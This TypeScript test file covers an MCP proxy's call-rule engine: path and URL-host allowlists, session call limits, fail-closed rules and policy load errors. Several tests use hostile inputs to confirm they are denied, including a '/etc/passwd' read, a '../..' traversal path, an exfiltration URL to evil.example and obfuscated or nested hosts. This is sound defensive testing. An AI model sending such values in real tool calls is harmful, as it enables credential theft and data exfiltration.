/**
 * Call rules (`call_rules` in a policy file, decided by the proxy for each tools/call): the documented
 * examples decide as documented, a rule that errors denies (fail closed), bad rules are load errors that
 * name the file, line and rule, and the session counts only forwarded calls.
 */
import { test } from "node:test";
import assert from "node:assert/strict";
import { McpTrustError } from "../../errors.ts";
import { buildLockfile } from "../../lockfile/build.ts";
import type { ServerInterface } from "../../mcp/types.ts";
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { tmpdir } from "node:os";
import {
  CALL_RULE_VARIABLES,
  CALL_SESSION_SHAPE,
  CALL_TOOL_SHAPE,
  type CallDecision,
  CallRuleEngine,
} from "./call_rules.ts";
import { CelCompiler } from "./compiler.ts";
import { compilePolicy } from "./policy.ts";
import { loadCompiledPolicy } from "./policy_check.ts";
import { parsePolicyText } from "./policy_file.ts";
import { explainJson, explainMarkdown } from "./render.ts";
import { fieldPaths } from "./shape.ts";

const iface: ServerInterface = {
  serverInfo: { name: "files", version: "1.0.0" },
  protocolVersion: "2025-06-18",
  capabilities: { tools: {} },
  tools: [
    {
      name: "read_file",
      title: "Read file",
      description: "Read a file",
      inputSchema: { type: "object", properties: { path: { type: "string" } } },
      annotations: { readOnlyHint: true },
    },
    { name: "fetch", description: "Fetch a URL", annotations: { openWorldHint: true } },
    { name: "delete_file", description: "Delete a file", annotations: { destructiveHint: true } },
  ],
  prompts: [],
  resources: [],
  resourceTemplates: [],
};
const lock = buildLockfile(iface, { generator: "t", updatedAt: "2026-01-01T00:00:00Z" });

/** An engine for `call_rules` given as YAML list items, the tools learned as the proxy would. */
function engine(callRulesYaml: string): CallRuleEngine {
  const doc = parsePolicyText(`name: calls\ncall_rules:\n${callRulesYaml}`, { type: "file", name: "p.yaml" });
  const e = new CallRuleEngine(compilePolicy(doc).callRules, lock);
  e.learn(iface.tools as Record<string, unknown>[]);
  return e;
}

function denied(d: CallDecision): string {
  assert.equal(d.allow, false, "expected the call to be denied");
  return (d as { reason: string }).reason;
}

test("read_file only under /srv/data/: other tools pass, other paths are denied with the rule's message", () => {
  const e = engine(`  - name: data_dir_only
    expr: 'tool.name != "read_file" || args.path.startsWith("/srv/data/")'
    failure_msg: read_file may only read under /srv/data/
`);
  assert.deepEqual(e.check("read_file", { path: "/srv/data/report.csv" }), { allow: true });
  assert.equal(
    denied(e.check("read_file", { path: "/etc/passwd" })),
    "read_file may only read under /srv/data/ (rule data_dir_only)",
  );
  assert.deepEqual(e.check("fetch", { url: "https://example.com" }), { allow: true });
});

test("the documented path rule also refuses .. segments", () => {
  const e = engine(`  - name: data_dir_only
    expr: |
      tool.name != "read_file" ||
        (args.path.startsWith("/srv/data/") && !args.path.matches("(^|/)[.][.](/|$)"))
`);
  assert.equal(e.check("read_file", { path: "/srv/data/a..b.txt" }).allow, true);
  assert.equal(e.check("read_file", { path: "/srv/data/../../etc/passwd" }).allow, false);
  assert.equal(e.check("read_file", { path: "/srv/data/.." }).allow, false);
});

test("URL host allowlist: a call with a URL to any other host, anywhere in its arguments, is denied", () => {
  const e = engine(`  - name: allowed_hosts
    expr: 'urlHosts(args).all(h, h in ["api.example.com", "docs.example.com"])'
    failure_msg: URLs may only point to api.example.com or docs.example.com
`);
  assert.equal(e.check("fetch", { url: "https://api.example.com/v1/items" }).allow, true);
  assert.equal(e.check("fetch", { url: "https://API.example.com./v1" }).allow, true);
  assert.equal(e.check("read_file", { path: "/srv/data/x" }).allow, true); // no URL at all
  assert.match(
    denied(e.check("fetch", { url: "https://evil.example/exfil?d=secret" })),
    /^URLs may only point to .* \(rule allowed_hosts\)$/,
  );
  // Nested, inside prose, behind a redirect, or spelled so that only a URL parser sees the host.
  assert.equal(e.check("fetch", { opts: { headers: [{ referer: "http://evil.example" }] } }).allow, false);
  assert.equal(
    e.check("fetch", { note: "see https://docs.example.com and https://evil.example" }).allow,
    false,
  );
  assert.equal(e.check("fetch", { url: "https://api.example.com/?next=https://evil.example" }).allow, false);
  assert.equal(e.check("fetch", { url: "https:\\\\evil.example" }).allow, false);
  assert.equal(e.check("fetch", { url: "http://0x7f.1/" }).allow, false);
});

test("at most 3 calls of a tool per session, counted over forwarded calls only", () => {
  const e = engine(`  - name: three_per_tool
    expr: session.calls[tool.name] < 3
    failure_msg: at most 3 calls of a tool per session
  - name: ten_in_all
    expr: session.total_calls < 10
`);
  for (let i = 0; i < 3; i++) {
    assert.equal(e.check("read_file", { path: "x" }).allow, true, `call ${i + 1}`);
    e.forwarded("read_file");
  }
  assert.equal(
    denied(e.check("read_file", { path: "x" })),
    "at most 3 calls of a tool per session (rule three_per_tool)",
  );
  // Another tool has its own count; a denied (not forwarded) call is not counted.
  assert.equal(e.check("fetch", {}).allow, true);
  assert.equal(e.counts.get("fetch"), 0n);
  e.forwarded("fetch");
  assert.equal(e.counts.get("fetch"), 1n);
  assert.equal(e.counts.get("read_file"), 3n);
});

test("tool metadata: the lockfile's risk level, the approved title and the hints", () => {
  assert.equal(lock.tools.delete_file.risk_level, "HIGH");
  const e = engine(`  - name: no_high_risk
    expr: tool.risk_level != "HIGH"
  - name: read_only_unless_titled
    expr: tool.hints.readOnlyHint || !tool.hints.destructiveHint || tool.title != ""
`);
  assert.equal(e.check("read_file", {}).allow, true);
  assert.match(denied(e.check("delete_file", {})), /\(rule no_high_risk\)$/);
  const titled = engine(`  - name: title_and_annotations
    expr: 'tool.title == "Read file" && has(tool.annotations.readOnlyHint) && tool.description == "Read a file"'
`);
  assert.equal(titled.check("read_file", {}).allow, true);
  assert.equal(titled.check("fetch", {}).allow, false);
});

test("session.client is the host's clientInfo from its initialize request", () => {
  const e = engine(`  - name: known_host
    expr: 'session.client.name == "claude-desktop" && session.client.version.startsWith("1.")'
`);
  assert.equal(e.check("read_file", {}).allow, false, "before initialize the client is empty");
  e.hostInitialize({
    protocolVersion: "2025-06-18",
    clientInfo: { name: "claude-desktop", version: "1.2.0" },
  });
  assert.equal(e.check("read_file", {}).allow, true);
  e.hostInitialize({ clientInfo: { name: 7 } });
  assert.equal(e.check("read_file", {}).allow, false);
});

test("args are JSON from the host: keys like constructor and __proto__ cannot break a rule", () => {
  const e = engine(`  - name: no_admin_flag
    expr: '!has(args.admin) && !("constructor" in args && args.constructor == "x")'
`);
  assert.equal(e.check("read_file", { path: "a" }).allow, true);
  assert.equal(e.check("read_file", JSON.parse('{"constructor":"x","path":"a"}')).allow, false);
  assert.equal(e.check("read_file", JSON.parse('{"__proto__":{"admin":true}}')).allow, true);
  assert.equal(e.check("read_file", { admin: true }).allow, false);
  // Absent arguments are {}: has() is false, and a read of a missing field fails closed.
  assert.equal(e.check("read_file", undefined).allow, true);
});

test("a rule that cannot be evaluated denies, with the error in the reason", () => {
  const e = engine(`  - name: data_dir_only
    expr: 'tool.name != "read_file" || args.path.startsWith("/srv/data/")'
    failure_msg: read_file may only read under /srv/data/
`);
  for (const args of [{}, { path: 42 }, undefined, "a string", [1, 2]]) {
    const d = e.check("read_file", args);
    assert.equal(d.allow, false, JSON.stringify(args));
    assert.match(
      (d as { reason: string }).reason,
      /^read_file may only read under \/srv\/data\/ \(rule data_dir_only, which could not be evaluated: .+\)$/,
    );
    assert.ok((d as { error?: string }).error);
  }
  // The cost limit, too.
  const costly = engine(`  - name: costly
    expr: '[1,2,3,4,5,6,7,8,9,10].all(a, [1,2,3,4,5,6,7,8,9,10].all(b, [1,2,3,4,5,6,7,8,9,10].all(c, urlHosts(args).size() == 0)))'
`);
  const big = { texts: Array.from({ length: 500 }, (_, i) => `word ${i}`) };
  assert.match(denied(costly.check("read_file", big)), /cost limit of 1000000 exceeded/);
});

test("the first failing rule denies; every rule must pass", () => {
  const e = engine(`  - name: a
    expr: "true"
  - name: b
    expr: tool.name != "fetch"
    failure_msg: no fetch
  - name: c
    expr: "false"
    failure_msg: never
`);
  assert.equal(denied(e.check("fetch", {})), "no fetch (rule b)");
  assert.equal(denied(e.check("read_file", {})), "never (rule c)");
});

test("a tool the lockfile has but that was not listed yet gets the lockfile's hints; unknown tools a bare binding", () => {
  const doc = parsePolicyText(
    `name: c\ncall_rules:\n  - name: r\n    expr: 'tool.risk_level == "LOW" && tool.hints.readOnlyHint'\n`,
    { type: "file", name: "p.yaml" },
  );
  const e = new CallRuleEngine(compilePolicy(doc).callRules, lock);
  assert.equal(e.check("read_file", {}).allow, true); // lockfile annotations: readOnlyHint true
  assert.equal(e.check("not_locked", {}).allow, false); // risk_level "" and default hints
});

// ------------------------------------------------------------------------------------------ loading

const dir = mkdtempSync(join(tmpdir(), "mcptrust-call-rules-"));

function loadError(text: string, opts: { needsRules?: boolean } = {}): string {
  const path = join(dir, "policy.yaml");
  writeFileSync(path, text);
  try {
    loadCompiledPolicy({ file: path }, opts);
  } catch (err) {
    assert.ok(err instanceof McpTrustError, String(err));
    assert.equal(err.exitCode, 2);
    return err.message.replaceAll(path, "policy.yaml");
  }
  assert.fail("the policy loaded");
}

test("a bad call rule is a load error naming the file, the line and the rule", () => {
  const msg = loadError(`name: p
call_rules:
  - name: fine
    expr: "true"
  - name: typo
    expr: |
      tool.name == "read_file" &&
        tool.risk_levl != "HIGH"
`);
  assert.match(
    msg,
    /^policy\.yaml:8: call rule "typo": unknown field "risk_levl" on tool \(its fields: name, title/,
  );
  assert.match(
    loadError(`name: p\ncall_rules:\n  - name: v\n    expr: input.tools.size() > 0\n`),
    /^policy\.yaml:4: call rule "v": unknown variable "input" \(in scope: tool, args, session\)/,
  );
  assert.match(
    loadError(`name: p\ncall_rules:\n  - name: n\n    expr: session.total_calls\n`),
    /call rule "n": the expression yields an int, not a bool/,
  );
  assert.match(
    loadError(`name: p\ncall_rules:\n  - name: r\n    expr: 'args.path.matches("(?<=x)")'\n`),
    /call rule "r": the regex .* is not valid RE2/,
  );
  assert.match(
    loadError(`name: p\ncall_rules:\n  - name: s\n    expr: "true"\n    severity: warn\n`),
    /policy\.yaml:5: call_rules\[0\]\.severity: unknown field \(known fields: name, expr, failure_msg, control_refs\)/,
  );
  assert.match(
    loadError(`name: p\nrules:\n  - name: x\n    expr: "true"\ncall_rules:\n  - name: x\n    expr: "true"\n`),
    /policy\.yaml:6: call_rules\[0\]\.name: "x" is already the name of the rule on line 3/,
  );
  assert.match(loadError(`name: p\nrules: []\ncall_rules: []\n`), /rules: needs at least one rule/);
});

test("a policy with only call_rules loads for the proxy and explain, and is refused by policy check", () => {
  const text = `name: p\ncall_rules:\n  - name: r\n    expr: "true"\n    control_refs: ["SOC2: CC6.1"]\n`;
  const path = join(dir, "calls-only.yaml");
  writeFileSync(path, text);
  const p = loadCompiledPolicy({ file: path });
  assert.equal(p.rules.length, 0);
  assert.deepEqual(p.callRules.map((r) => [r.rule.name, r.rule.failure_msg, r.rule.control_refs]), [
    ["r", "the policy does not allow this call", ["SOC2: CC6.1"]],
  ]);
  assert.match(
    loadError(text, { needsRules: true }),
    /policy\.yaml: the policy has no rules, only call_rules/,
  );
});

// ------------------------------------------------------------------------------------------ docs

const DOC = readFileSync(new URL("../../../docs/POLICY.md", import.meta.url), "utf8");
const CALL_SECTION = DOC.slice(
  DOC.indexOf("## Call rules: deciding each tools/call in the proxy"),
  DOC.indexOf("## In CI"),
);

test("docs/POLICY.md documents every call-rule field, and each example rule compiles", () => {
  const paths = [
    "tool",
    ...fieldPaths(CALL_TOOL_SHAPE, "tool"),
    "args",
    "session",
    ...fieldPaths(CALL_SESSION_SHAPE, "session"),
  ];
  const rows = new Map<string, string>();
  for (const line of CALL_SECTION.split("\n")) {
    const m = /^\| `([A-Za-z_.]+)` \|.*\| `(.+)` \|$/.exec(line);
    if (m) rows.set(m[1], m[2].replaceAll("\\|", "|"));
  }
  assert.deepEqual(paths.filter((p) => !rows.has(p)), []);
  const compiler = new CelCompiler();
  for (const [field, expr] of rows) {
    assert.doesNotThrow(() => compiler.compile(expr, CALL_RULE_VARIABLES), `${field}: ${expr}`);
  }
});

test("the worked examples in docs/POLICY.md load, and decide as the docs say", () => {
  const blocks = [...CALL_SECTION.matchAll(/```yaml\n([\s\S]*?)```/g)].map((m) => m[1]);
  assert.ok(blocks.length >= 5, `found ${blocks.length} YAML blocks`);
  const all = blocks.map((b) => b.startsWith("call_rules:") ? b.slice("call_rules:\n".length) : b).join("");
  const e = engine(all);
  e.hostInitialize({ clientInfo: { name: "claude-ai", version: "1.0" } });
  assert.equal(
    denied(e.check("read_file", { path: "/etc/passwd" })),
    "read_file may only read under /srv/data/ (rule data_dir_only)",
  );
  assert.deepEqual(e.check("read_file", { path: "/srv/data/report.csv" }), { allow: true });
  e.forwarded("read_file");
  assert.match(denied(e.check("fetch", { url: "https://evil.example" })), /\(rule allowed_hosts\)$/);
  assert.match(denied(e.check("delete_file", {})), /\(rule (one_write|high_risk_ops_only)\)$/);
  assert.match(denied(e.check("fetch", { command: "ls" })), /\(rule no_command_args\)$/);
});

test("policy explain renders call rules for reviewers (JSON and Markdown)", () => {
  const p = compilePolicy(parsePolicyText(
    `name: p\ncall_rules:\n  - name: data_dir_only\n    expr: 'tool.name != "read_file" || args.path.startsWith("/srv/data/")'\n` +
      `    failure_msg: read_file may only read under /srv/data/\n    control_refs: ["SOC2: CC6.1"]\n`,
    { type: "file", name: "p.yaml" },
  ));
  const json = explainJson(p) as { rules: unknown[]; call_rules: Record<string, unknown>[] };
  assert.deepEqual(json.rules, []);
  assert.deepEqual(json.call_rules, [{
    name: "data_dir_only",
    expr: 'tool.name != "read_file" || args.path.startsWith("/srv/data/")',
    failure_msg: "read_file may only read under /srv/data/",
    control_refs: ["SOC2: CC6.1"],
    reads: ["tool.name"],
  }]);
  const md = explainMarkdown(p);
  assert.match(md, /## Call rules\n/);
  assert.match(md, /\| data_dir_only \| SOC2: CC6\.1 \| `tool\.name != "read_file" \\\|\\\| args\.path/);
  assert.match(
    md,
    /### data_dir_only\n\n- \*\*Failure message\*\*: read_file may only read under \/srv\/data\//,
  );
  assert.doesNotMatch(md, /\| Rule \| Severity/);
});
